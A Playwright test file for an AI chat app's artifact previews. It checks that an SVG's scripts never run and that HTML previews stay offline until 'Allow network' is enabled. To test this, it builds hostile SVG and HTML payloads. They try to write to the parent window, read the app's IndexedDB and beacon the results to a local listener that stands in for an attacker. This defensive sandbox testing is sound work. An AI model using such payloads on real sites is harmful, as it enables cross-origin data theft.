// Previews keep what the model wrote away from Fawn's origin and the network: an SVG with a script, opened every way
// the UI offers, never runs it; an HTML preview makes no request until its "Allow network" switch is on.
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test, type Locator, type Page } from "@playwright/test";
import {
  assistantMessages,
  callTool,
  callTools,
  configureEndpoint,
  send,
  openPreview,
  htmlPage,
  expectNoA11yViolations,
  pageSettled,
} from "./fixtures.ts";

const OUTPUTS = "/mnt/user-data/outputs";

/** A 1×1 PNG. */
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);

/** A local listener standing in for an attacker's or a CDN's server: it records every request it gets. */
interface Listener {
  origin: string;
  requests: string[];
  close: () => Promise<void>;
}

async function listen(): Promise<Listener> {
  const requests: string[] = [];
  const server: Server = createServer((request, response) => {
    requests.push(request.url ?? "");
    // CORS for any origin (the preview's is opaque, "null"), so a page that may reach it sees the answer.
    response.setHeader("Access-Control-Allow-Origin", "*");
    if (request.url?.startsWith("/img")) {
      response.setHeader("Content-Type", "image/png");
      response.end(PNG);
    } else response.end("pong");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    requests,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        // The browser keeps its connections alive; close would wait for them.
        server.closeAllConnections();
      }),
  };
}

async function runEnded(page: Page): Promise<void> {
  await expect(page.getByRole("button", { name: "Send" })).toBeVisible({ timeout: 30_000 });
}

/** Has the agent write each file, then present them all. */
async function present(page: Page, files: Record<string, string>): Promise<void> {
  await send(
    page,
    callTools(Object.entries(files).map(([name, content]) => ["write_file", { path: `${OUTPUTS}/${name}`, content }])),
  );
  await runEnded(page);
  await send(page, callTool("present_files", { filepaths: Object.keys(files).map((name) => `${OUTPUTS}/${name}`) }));
  const artifacts = page.getByRole("region", { name: "Artifacts" });
  for (const name of Object.keys(files)) {
    await expect(artifacts.getByRole("button", { name: `Preview ${name}`, exact: true })).toBeVisible();
  }
  await runEnded(page);
}

async function closePreview(dialog: Locator): Promise<void> {
  await dialog.getByRole("button", { name: "Close preview" }).click();
  await expect(dialog).toBeHidden();
}

/** Nothing the hostile files tried reached Fawn's page: no flag set there, no request to the listener. */
async function expectUntouched(page: Page, listener: Listener): Promise<void> {
  expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(listener.requests).toEqual([]);
}

/** The SVG markup a data: URL carries. */
function svgOf(url: string): string {
  expect(url).toMatch(/^data:image\/svg\+xml;base64,/);
  return Buffer.from(url.slice(url.indexOf(",") + 1), "base64").toString("utf8");
}

test.beforeEach(async ({ page }) => {
  await page.goto("/");
  await expect(page.getByRole("button", { name: "New thread" })).toBeVisible();
  await configureEndpoint(page);
});

test("an SVG with a script never runs it: in the preview, as a picture, opened in a tab of its own, downloaded", async ({
  page,
}) => {
  const listener = await listen();
  try {
    // Each way in would tell the listener what it could reach: the origin it ran in and Fawn's IndexedDB.
    const report = `(where) => { window.__pwned = where; try { parent.__pwned = where; top.__pwned = where; opener.__pwned = where; } catch {}
      new Image().src = "${listener.origin}/svg/" + where + "/" + encodeURIComponent(self.origin);
      try { indexedDB.open("fawn").onsuccess = (event) => fetch("${listener.origin}/idb?" + event.target.result.objectStoreNames.length); } catch {} }`;
    const svg = [
      `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" onload='(${report})("onload")'>`,
      `<script>(${report})("script")</script>`,
      '<rect width="40" height="20" fill="#b5651d"/>',
      `<foreignObject width="1" height="1"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${listener.origin}/frame"/></foreignObject>`,
      "</svg>",
    ].join("\n");
    await present(page, { "logo.svg": svg, "notes.md": "# Notes\n\n![Logo](logo.svg)\n" });

    // The Artifacts preview: a sanitized picture from a data: URL.
    const dialog = await openPreview(page, "logo.svg");
    const image = dialog.getByRole("img", { name: "logo.svg" });
    await expect.poll(() => image.evaluate((element: HTMLImageElement) => element.naturalWidth)).toBe(40);
    const src = (await image.getAttribute("src")) ?? "";
    const shown = svgOf(src);
    expect(shown).toContain("<rect");
    for (const gone of ["script", "onload", "foreignObject", "iframe", listener.origin]) {
      expect(shown, gone).not.toContain(gone);
    }

    // "Open image in new tab": the exact URL the picture uses, as a page of its own. A data: document's origin is
    // opaque, and nothing in it runs.
    const tab = await page.context().newPage();
    await tab.goto(src);
    expect(await tab.evaluate(() => [self.origin, document.documentElement.localName])).toEqual(["null", "svg"]);
    expect(await tab.evaluate(() => document.getElementsByTagName("script").length)).toBe(0);
    expect(await tab.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();

    // Download: saved under its name as plain bytes, so even its URL opened in a tab is saved again, never shown.
    const saving = page.waitForEvent("download");
    await dialog.getByRole("button", { name: "Download", exact: true }).click();
    const download = await saving;
    expect(download.suggestedFilename()).toBe("logo.svg");
    expect(download.url()).toMatch(/^blob:/);
    const again = tab.waitForEvent("download");
    await tab.goto(download.url()).catch(() => undefined);
    await again;
    expect(tab.url()).not.toBe(download.url());
    await tab.close();
    await closePreview(dialog);

    // A picture in a Markdown file, and in a reply, by thread path: the same sanitized data: URL.
    const notes = await openPreview(page, "notes.md");
    const picture = notes.getByRole("img", { name: "Logo" });
    await expect.poll(() => picture.evaluate((element: HTMLImageElement) => element.naturalWidth)).toBe(40);
    expect(svgOf((await picture.getAttribute("src")) ?? "")).toBe(shown);
    await closePreview(notes);
    await send(page, callTool("bash", { command: `echo '![Logo](${OUTPUTS}/logo.svg)'` }));
    const inReply = assistantMessages(page).last().getByRole("img", { name: "Logo" });
    await expect.poll(() => inReply.evaluate((element: HTMLImageElement) => element.naturalWidth)).toBe(40);
    expect(svgOf((await inReply.getAttribute("src")) ?? "")).toBe(shown);
    await runEnded(page);

    // The page around it never heard from the SVG, and nothing asked the listener (once every image is in).
    await pageSettled(page);
    await expectUntouched(page, listener);
  } finally {
    await listener.close();
  }
});

test('an HTML preview makes no request until "Allow network" is on, then it does; off again, none', async ({
  page,
}) => {
  const listener = await listen();
  try {
    const probe = [
      "<!doctype html><html><body><h1>Network probe</h1>",
      `<img alt="remote" src="${listener.origin}/img">`,
      "<script>",
      "const say = (text) => document.body.insertAdjacentHTML('beforeend', '<p>' + text + '</p>');",
      `fetch("${listener.origin}/ping").then((response) => response.text()).then((text) => say("fetch " + text), () => say("fetch refused"));`,
      "</script></body></html>",
    ].join("\n");
    // A page that tries to leave for the listener by itself: the preview's frame may not go there either.
    const leave = [
      `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=${listener.origin}/refresh"></head>`,
      `<body><h1>Leaving</h1><script>location.href = "${listener.origin}/navigate";</script></body></html>`,
    ].join("\n");
    await present(page, { "probe.html": probe, "leave.html": leave });

    // The browser says when it refuses a frame's way out: the positive sign that the page tried, and was stopped.
    const refused = page.waitForEvent("console", {
      predicate: (message) =>
        message.text().includes("violates the following Content Security Policy") &&
        message.text().includes(listener.origin),
    });
    let dialog = await openPreview(page, "leave.html");
    await expect(dialog.getByRole("switch", { name: "Allow network" })).not.toBeChecked();
    await refused;
    expect(listener.requests).toEqual([]);
    await closePreview(dialog);

    dialog = await openPreview(page, "probe.html");
    const allow = dialog.getByRole("switch", { name: "Allow network" });
    await expect(allow).not.toBeChecked();
    let inside = htmlPage(dialog);
    await expect(inside.getByRole("heading", { name: "Network probe" })).toBeVisible();
    await expect(inside.getByText("fetch refused")).toBeVisible();
    expect(listener.requests).toEqual([]);

    // Allowed: the page loads again, in the frame that may reach the web, and its image and fetch arrive.
    await allow.check();
    await expect(allow).toBeChecked();
    inside = htmlPage(dialog);
    await expect(inside.getByText("fetch pong")).toBeVisible();
    await expect.poll(() => [...listener.requests].sort()).toEqual(["/img", "/ping"]);
    await expect
      .poll(() => inside.getByRole("img", { name: "remote" }).evaluate((image: HTMLImageElement) => image.naturalWidth))
      .toBe(1);

    // Off again: back to no network.
    listener.requests.length = 0;
    await allow.uncheck();
    await expect(allow).not.toBeChecked();
    await expect(inside.getByText("fetch refused")).toBeVisible();
    // The image was asked for before the script ran: once it has failed, the page made every request it makes.
    await expect
      .poll(() => inside.getByRole("img", { name: "remote" }).evaluate((image: HTMLImageElement) => image.complete))
      .toBe(true);
    expect(listener.requests).toEqual([]);

    // Each preview starts with the network off.
    await allow.check();
    await expect(inside.getByText("fetch pong")).toBeVisible();
    await closePreview(dialog);
    dialog = await openPreview(page, "probe.html");
    await expect(dialog.getByRole("switch", { name: "Allow network" })).not.toBeChecked();
    await expect(htmlPage(dialog).getByText("fetch refused")).toBeVisible();
  } finally {
    await listener.close();
  }
});

test.describe("with the service worker", () => {
  test.use({ serviceWorkers: "allow" });

  test("an HTML preview works offline: its frame document comes from the service worker's precache", async ({
    page,
    context,
  }) => {
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null, undefined, { timeout: 20_000 });
    await present(page, {
      "offline.html": "<!doctype html><h1>Offline page</h1><script>document.body.append('script ran')</script>",
    });
    await context.setOffline(true);
    try {
      await page.reload();
      await page.getByRole("navigation", { name: "Threads" }).getByRole("link").first().click();
      const dialog = await openPreview(page, "offline.html");
      await expect(htmlPage(dialog).getByRole("heading", { name: "Offline page" })).toBeVisible();
      await expect(htmlPage(dialog).getByText("script ran")).toBeVisible();
    } finally {
      await context.setOffline(false);
    }
  });
});

test("closing a preview and opening another at once leaves the other open", async ({ page }) => {
  await present(page, { "a.txt": "first file\n", "b.txt": "second file\n" });
  await openPreview(page, "a.txt");
  // In one task: the first dialog closes (its close event comes a task later) and the second file opens.
  const firstClosed = page.evaluate(() => {
    const first = document.querySelector<HTMLDialogElement>("dialog[open]");
    const close = first?.querySelector<HTMLButtonElement>('button[aria-label="Close preview"]');
    const second = document.querySelector<HTMLButtonElement>('button[aria-label="Preview b.txt"]');
    // Resolves once the first dialog's close event has been handled (Fawn's listener was added before this one).
    const closed = new Promise<void>((resolve) => first?.addEventListener("close", () => resolve(), { once: true }));
    close?.click();
    second?.click();
    return closed;
  });
  const dialog = page.getByRole("dialog", { name: "Preview: b.txt" });
  await expect(dialog).toContainText("second file");
  await expectNoA11yViolations(page, "text file preview");
  await firstClosed;
  await expect(dialog).toBeVisible();
});
